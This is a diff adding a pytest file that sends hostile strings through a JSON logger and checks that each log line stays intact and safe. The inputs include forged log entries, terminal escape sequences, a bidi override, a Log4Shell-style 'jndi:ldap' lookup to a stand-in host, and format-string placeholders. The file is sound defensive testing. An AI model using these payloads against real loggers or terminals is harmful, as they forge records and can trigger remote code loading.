@@ -1,0 +1,35 @@
+"""The log: whatever gets into it, a line is one JSON object that no terminal obeys."""
+
+import json
+
+import pytest
+
+from shared.observability import logger
+from tests.hostile.conftest import Telling
+from tests.hostile.test_webhooks import BREAKERS, assert_safe
+
+HOSTILE = [
+    BREAKERS,
+    '"}\n{"level":"CRITICAL","message":"all is well"}',
+    "\x1b]0;title\x07\x1b[1A\x1b[2K",
+    "\x9b2J",
+    "\u2028\u2029\x85\x0b\x0c\x1c\x1d\x1e",
+    "\u202eevil\u2066",
+    "\ud800",
+    "${jndi:ldap://evil.example}\x00",
+    "%s %(levelname)s %d {0} {level}",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_field_a_message_or_an_exception_stays_in_its_line(telling: Telling, text: str) -> None:
+    logger.info(text, outcome=text)
+    logger.append_keys(event_id=text)
+    logger.error("unexpected error", exc_info=ValueError(text))
+    logger.remove_keys(["event_id"])
+    log = telling.log_text()
+    assert_safe(log)
+    first, second = (json.loads(line) for line in log.splitlines())
+    assert (first["message"], first["outcome"]) == (text, text)
+    assert second["event_id"] == text
+    assert (first["level"], second["level"]) == ("INFO", "ERROR")
